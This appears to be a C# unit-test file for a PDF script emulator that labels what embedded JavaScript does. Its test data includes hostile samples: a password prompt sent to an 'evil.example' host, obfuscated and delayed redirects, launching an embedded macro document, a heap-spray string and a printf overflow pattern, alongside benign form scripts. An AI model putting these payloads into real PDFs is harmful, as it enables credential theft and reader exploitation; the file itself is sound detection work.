using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.JavaScript;

public sealed class PdfTests
{
    [Theory]
    [InlineData(BehaviourKind.Execute, "this.exportDataObject({cName:'a.docm',nLaunch:2})")]
    [InlineData(BehaviourKind.Redirect, "app.launchURL('https://evil.example/',true)")]
    [InlineData(BehaviourKind.Redirect, "var u=String.fromCharCode(104,116,116,112,58,47,47,101,46,101,120,97,109,112,108,101);this.getURL(u,false)")]
    [InlineData(BehaviourKind.AskCredential, "var p=app.response({cQuestion:'Password',bPassword:true});this.submitForm({cURL:'https://evil.example/?p='+p})")]
    [InlineData(BehaviourKind.Execute, "var n='';while(n.length<5000)n+=unescape('%u0c0c');Collab.collectEmailInfo({msg:n})")]
    [InlineData(BehaviourKind.Execute, "util.printf('%45000.45000f',1e308)")]
    [InlineData(BehaviourKind.Redirect, "app.setTimeOut(\"app.launchURL('https://evil.example/')\",500)")]
    public void What_a_script_of_a_document_does_is_told(BehaviourKind kind, string code)
    {
        var log = Emulated.Script(code, ScriptHost.Pdf);
        Assert.True(log.Did(kind), log.Told());
    }

    [Theory]
    [InlineData("event.value=this.getField('a').value*this.getField('b').value")]
    [InlineData("AFNumber_Format(2,0,0,0,'',true)")]
    [InlineData("AFSimple_Calculate('SUM',new Array('a','b'))")]
    [InlineData("if(event.value<0){app.alert('Not below zero');event.rc=false}")]
    [InlineData("this.submitForm('https://forms.example.com/order')")]
    [InlineData("var d=new Date();this.getField('date').value=util.printd('yyyy/mm/dd',d)")]
    [InlineData("var n=app.response('Your name?','Form');this.getField('name').value=n")]
    public void A_form_that_calculates_does_nothing_to_be_told(string code) =>
        Assert.Empty(Emulated.Script(code, ScriptHost.Pdf).Behaviours);
}
